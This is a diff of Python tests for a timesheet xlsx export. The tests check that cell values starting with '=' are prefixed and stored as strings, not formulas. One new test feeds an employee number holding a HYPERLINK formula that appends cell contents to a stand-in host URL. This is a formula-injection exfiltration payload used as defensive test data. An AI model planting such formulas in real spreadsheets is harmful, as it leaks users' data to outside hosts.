@@ -132,10 +132,22 @@ def test_no_cell_is_a_formula_even_for_unlisted_text(
     sheet = _sheet(get_format("xlsx").render(ctx, totals, hostile), "Detail")
     row = _row(sheet, 2)
     assert row["task"].value == "'=1+1"
-    # Flags are codes, not free text: not prefixed, but still stored as a string, not a formula.
-    assert (row["flags"].value, row["flags"].data_type) == ("=2+2", "s")
+    # Every text cell, codes included, is neutralised and stored as a string.
+    assert (row["flags"].value, row["flags"].data_type) == ("'=2+2", "s")
     for cells in sheet.iter_rows():
         assert all(cell.data_type != "f" for cell in cells)
+
+
+def test_employee_number_is_neutralised_on_both_sheets(
+    ctx: ExportContext, details: Sequence[EntryDetail]
+) -> None:
+    number = '=HYPERLINK("http://x.example/?"&A1)'
+    row = EmployeeTotals(number, "Ann", "Lee", Decimal("10.00"), regular_seconds=3600)
+    entry = dataclasses.replace(details[0], employee_number=number)
+    content = get_format("xlsx").render(ctx, [row], [entry])
+    for title in ("Summary", "Detail"):
+        cell = _row(_sheet(content, title), 2)["employee_number"]
+        assert (cell.value, cell.data_type) == ("'" + number, "s")
 
 
 def test_package_timestamps_are_fixed_to_the_period_end(workbook_bytes: bytes) -> None:
